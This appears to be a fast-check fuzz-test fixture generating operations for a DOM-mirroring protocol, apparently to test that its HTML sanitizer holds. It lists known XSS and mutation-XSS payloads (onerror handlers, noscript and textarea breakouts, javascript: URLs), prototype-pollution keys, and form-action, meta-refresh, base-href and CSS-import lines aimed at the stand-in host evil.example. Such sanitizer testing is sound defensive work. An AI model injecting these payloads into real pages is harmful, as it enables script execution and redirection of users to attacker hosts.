/** Ops that pass the schemas, with anything in them that may be. */
import fc from 'fast-check'
import type { ControlOp, MirrorOp, PageOp } from '../../protocol/mirror.ts'

const target = fc.oneof(
  fc.constantFrom('f0', 'screen', 'm1', '__proto__', 'constructor', '-'),
  fc.stringMatching(/^[\w-]{1,40}$/),
)
const whole = fc.oneof(fc.integer(), fc.constantFrom(-1, 0, 1, Number.MAX_SAFE_INTEGER))
const bit = fc.constantFrom<0 | 1>(0, 1)
const points = fc.array(fc.nat(1000), { maxLength: 20 })
const indexes = fc.array(whole, { maxLength: 5 })
const text = fc.oneof(
  fc.string({ maxLength: 40, unit: 'binary' }),
  fc.constantFrom('<script>x()</script>'),
)

/** Pieces that were known to get through somewhere. */
const piece = fc.constantFrom(
  '<script>x()</script>',
  '<img src=x onerror=x()>',
  '<svg onload=x()><style>@import "//evil.example"</style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=x()>',
  '<noscript><p title="</noscript><img src=x onerror=x()>">',
  '<iframe srcdoc="<script>x()</script>"></iframe>',
  '<a href="javascript:x()" id=top name=parent>',
  '<form action=//evil.example><input type=hidden value=1><button formaction=x>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<p style="background:url(//evil.example)" onclick=x() data-m="m9">',
  '<template><b>',
  '</textarea></select></p>',
  '<textarea><img src=x onerror=x()></textarea>',
  '<select><option selected>a',
  '<!--><img src=x onerror=x()>-->',
  '<b>',
  'a & b < c',
)
const markup = fc.array(fc.oneof(piece, text), { maxLength: 6 }).map((parts) => parts.join(''))
const attribute = fc.oneof(
  fc.constantFrom('class', 'style', 'hidden', 'href', 'onclick', 'aria-label', 'srcdoc', 'src'),
  fc.string({ maxLength: 12 }),
)
const value = fc.option(
  fc.oneof(text, fc.constantFrom('background:URL(x)', 'color:red', 'javascript:x()')),
)

export const anyMirrorOp: fc.Arbitrary<MirrorOp> = fc.oneof(
  fc.tuple(fc.constant('v' as const), target, text, whole, whole),
  fc.tuple(fc.constant('t' as const), target, whole, whole, text, whole, whole),
  fc.tuple(fc.constant('c' as const), target, bit),
  fc.tuple(fc.constant('o' as const), target, indexes),
  fc.tuple(fc.constant('s' as const), target, whole, whole),
  fc.tuple(fc.constant('F' as const), target, fc.array(text, { maxLength: 3 })),
  fc.tuple(fc.constant('a' as const), target, attribute, value),
  fc.tuple(fc.constant('h' as const), target, markup),
  fc.tuple(fc.constant('y' as const), whole),
  fc.tuple(fc.constant('w' as const), whole, whole),
  fc.tuple(fc.constant('k' as const), target, points),
  fc.tuple(fc.constant('K' as const), target),
  fc.tuple(fc.constant('P' as const), target, bit, fc.nat()),
)

export const anyControlOp: fc.Arbitrary<ControlOp> = fc.oneof(
  fc.tuple(fc.constant('v' as const), target, text, whole, whole),
  fc.tuple(fc.constant('t' as const), target, fc.nat(), fc.nat(), text, whole, whole, fc.nat()),
  fc.tuple(fc.constant('c' as const), target, bit),
  fc.tuple(fc.constant('o' as const), target, indexes),
  fc.tuple(fc.constant('s' as const), target, whole, whole),
  fc.tuple(fc.constant('k' as const), target, points),
  fc.tuple(fc.constant('K' as const), target),
  fc.tuple(fc.constant('p' as const), target),
  fc.tuple(fc.constant('ch' as const), target),
  fc.tuple(fc.constant('y' as const), fc.nat()),
)

export const anyPageOp: fc.Arbitrary<PageOp> = fc.oneof(
  { weight: 6, arbitrary: anyMirrorOp },
  fc.tuple(fc.constant('v' as const), target, text),
  fc.tuple(fc.constant('t' as const), target, whole, whole, text),
)
